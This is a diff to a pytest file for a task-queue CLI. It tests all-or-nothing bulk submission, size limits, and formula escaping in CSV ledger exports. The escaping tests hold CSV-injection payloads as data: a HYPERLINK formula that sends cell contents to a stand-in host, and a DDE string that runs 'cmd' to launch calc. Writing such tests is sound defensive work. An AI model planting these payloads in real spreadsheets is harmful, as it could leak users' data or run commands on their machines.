@@ -9,8 +9,12 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
+from colibri.cli.bulk import FORMULA_LEADS, spreadsheet_cell
+from colibri.core.errors import ColibriError
 from tests.cli.test_cli import as_json, colibri, error_line, ok
-from tests.helpers import Daemon, on_a_terminal
+from tests.helpers import Daemon, FakeAgent, on_a_terminal, wait_until
 
 
 def _lines(path: Path, *objects: object) -> Path:
@@ -80,20 +84,56 @@ def test_a_bad_line_stops_the_whole_file_before_anything_is_sent(
     assert usage.returncode == 2 and "leave out TEXT" in usage.stderr
 
 
-def test_a_refusal_midway_says_where_and_how_many_went_before(
+def test_a_refusal_of_any_line_leaves_the_whole_file_unsubmitted_and_names_the_line(
     daemon: Daemon, tmp_path: Path
 ) -> None:
-    source = _lines(tmp_path / "t.jsonl", {"text": "a"}, {"text": "b"}, {"text": "c",
-                    "parent": "ffffffff-0000-7000-8000-000000000000"}, {"text": "d"})  # fmt: skip
-    done = colibri("submit", "--from", str(source), root=daemon.root)
-    assert done.returncode == 1 and len(done.stdout.split()) == 2  # the ids of a and b
-    (line,) = done.stderr.strip().splitlines()
-    assert line.startswith(f"colibri: {source}:3: ") and "ffffffff-0000" in line
-    assert line.endswith("; the 2 before it were submitted")
-    one = _lines(tmp_path / "one.jsonl", {"text": "e"}, {"text": "f", "parent": "ffffffff-0000"})
-    (said,) = colibri("submit", "--from", str(one), root=daemon.root).stderr.strip().splitlines()
-    assert said.endswith("; the 1 before it was submitted")
-    assert [t["text"] for t in daemon.call("list")["tasks"]] == ["a", "b", "e"]
+    """What only the board can tell — a parent that does not exist or is cancelled, a budget
+    the lines before used up, a parent named by too short a prefix — refuses the whole file,
+    naming the line; none of it is submitted."""
+    cancelled = daemon.submit("cancelled parent", capabilities=["zz"])["id"]
+    daemon.call("cancel", task=cancelled)
+    funded = daemon.submit("funded parent", capabilities=["zz"], budget_usd=1.0)["id"]
+    before = daemon.call("status")["ledger_seq"]
+    for number, bad, says in [
+        (3, {"text": "c", "parent": "ffffffff-0000-7000-8000-000000000000"}, "does not exist"),
+        (2, {"text": "c", "parent": cancelled}, "cancelled"),
+        (3, {"text": "c", "parent": funded, "budget_usd": 0.6}, "budget"),
+        (2, {"text": "c", "parent": "ab"}, "too short to name a task"),
+    ]:
+        lines = [{"text": "a", "parent": funded, "budget_usd": 0.5}, {"text": "b"}]
+        lines.insert(number - 1, bad)
+        source = _lines(tmp_path / "t.jsonl", *lines)
+        done = colibri("submit", "--from", str(source), root=daemon.root)
+        assert done.returncode == 1 and done.stdout == "", (bad, done.stdout)
+        (line,) = done.stderr.strip().splitlines()
+        assert line.startswith(f"colibri: {source}:{number}: ") and says in line, line
+        assert line.endswith("; nothing was submitted"), line
+        assert daemon.call("status")["ledger_seq"] == before
+    assert len(daemon.call("list")["tasks"]) == 2  # the two parents only
+    # On the wire: the refusal names the submission (from 0) as ``index``.
+    with pytest.raises(ColibriError) as caught:
+        daemon.call("submit-all", tasks=[{"text": "a"}, {"text": "b", "parent": cancelled}])
+    assert (caught.value.code, caught.value.index) == ("parent_cancelled", 1)
+    assert daemon.call("status")["ledger_seq"] == before
+
+
+def test_a_file_larger_than_one_request_is_refused_before_anything_is_sent(
+    root: Path, tmp_path: Path
+) -> None:
+    (root / "colibri.jsonc").write_text(json.dumps({"server": {"max_line": 1024}}))
+    daemon = Daemon(root)
+    daemon.start()
+    try:
+        source = _lines(tmp_path / "t.jsonl", *({"text": f"task {i}"} for i in range(60)))
+        line = error_line(colibri("submit", "--from", str(source), root=root))
+        assert "more than the daemon's server.max_line of 1024" in line, line
+        assert line.endswith("nothing was submitted")
+        many = _lines(tmp_path / "many.jsonl", *({"text": "t"} for _ in range(10_001)))
+        line = error_line(colibri("submit", "--from", str(many), root=root))
+        assert "holds 10001 tasks, more than the 10000" in line, line
+        assert daemon.call("list")["tasks"] == []
+    finally:
+        daemon.stop()
 
 
 def test_progress_shows_on_a_terminal_only(daemon: Daemon, tmp_path: Path) -> None:
@@ -114,7 +154,7 @@ def test_ledger_export_writes_every_row_as_json_lines_or_csv(
     for i in range(3):
         daemon.submit(f"task {i}", capabilities=["x"])
     task = daemon.submit("to cancel")["id"]
-    daemon.call("cancel", task=task, reason="not, \"needed\"\nany more")
+    daemon.call("cancel", task=task, reason='not, "needed"\nany more')
     rows = daemon.call("ledger", limit=1000)["entries"]
     exported = [json.loads(line) for line in ok(colibri("ledger", "export", root=daemon.root))
                 .splitlines()]  # fmt: skip
@@ -150,3 +190,55 @@ def test_ledger_export_writes_every_row_as_json_lines_or_csv(
 
 def as_json_lines(result: subprocess.CompletedProcess[str]) -> list[dict[str, object]]:
     return [json.loads(line) for line in ok(result).splitlines()]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_starting_like_a_formula_is_written_as_text(lead: str) -> None:
+    text = f'{lead}HYPERLINK("http://x.example/?"&A1,"see")'
+    assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_cell(" " + text) == " " + text  # only the first character counts
+    assert spreadsheet_cell("plain") == "plain"
+
+
+@pytest.mark.parametrize("number", [-1, -0.5, 0, 3, 2.5e-7, None])
+def test_numbers_and_empty_cells_stay_as_they_are(number: float | None) -> None:
+    assert spreadsheet_cell(number) is number
+
+
+def test_ledger_export_to_csv_writes_no_formula_from_any_column(
+    daemon: Daemon, tmp_path: Path
+) -> None:
+    """A session's error and its cost's model, an operator's cancel reason: every text column a
+    user or a session writes into, written so no spreadsheet runs it; numbers left numbers."""
+    agent = FakeAgent(daemon, "worker", ["python"])
+    try:
+        failed = daemon.submit("fails", capabilities=["python"])["id"]
+        agent.fail(agent.next_assign(), error='=HYPERLINK("http://x.example","open")')
+        done = daemon.submit("costs", capabilities=["python"])["id"]
+        agent.out(agent.next_assign(), cost={"usd": 0.25, "tokens_in": 3, "model": "@SUM(1+1)*cmd"})
+        for n, lead in enumerate(["+", "-", "\t", "\r"]):
+            pending = daemon.submit(f"cancelled {n}", capabilities=["zfs"])["id"]
+            daemon.call("cancel", task=pending, reason=f"{lead}cmd|'/C calc'!A0; =1+1")
+        wait_until(lambda: daemon.task(done)["state"] == "closed")
+    finally:
+        agent.close()
+    out = tmp_path / "ledger.csv"
+    ok(colibri("ledger", "export", "--format", "csv", "--out", str(out), root=daemon.root))
+    exported = out.read_bytes().decode()  # as a spreadsheet reads it: a "\r" is kept
+    table = list(csv.reader(io.StringIO(exported, newline="")))
+    assert len(table) > 8 and table[0][0] == "seq"
+    cells = [cell for row in table[1:] for cell in row]
+    for cell in cells:
+        assert not cell.startswith(FORMULA_LEADS), cell
+    reasons = [row[9] for row in table[1:]]
+    assert any(r.startswith("'=HYPERLINK(") for r in reasons), reasons
+    for lead in ["+", "-", "\t", "\r"]:
+        assert f"'{lead}cmd|'/C calc'!A0; =1+1" in reasons
+    models = [row[15] for row in table[1:] if row[15]]
+    assert models == ["'@SUM(1+1)*cmd"]
+    # Numbers are written bare (a spreadsheet keeps them numbers), text quoted (a spreadsheet
+    # that splits on ";" keeps "…; =1+1" in one cell).
+    assert exported.startswith('"seq","at","task"')
+    seqs = [line.split(",", 1)[0] for line in exported.split("\r\n")[1:] if line[:1].isdigit()]
+    assert len(seqs) == len(table) - 1  # each row starts with its seq, bare
+    assert {row[2] for row in table[1:]} >= {failed, done}
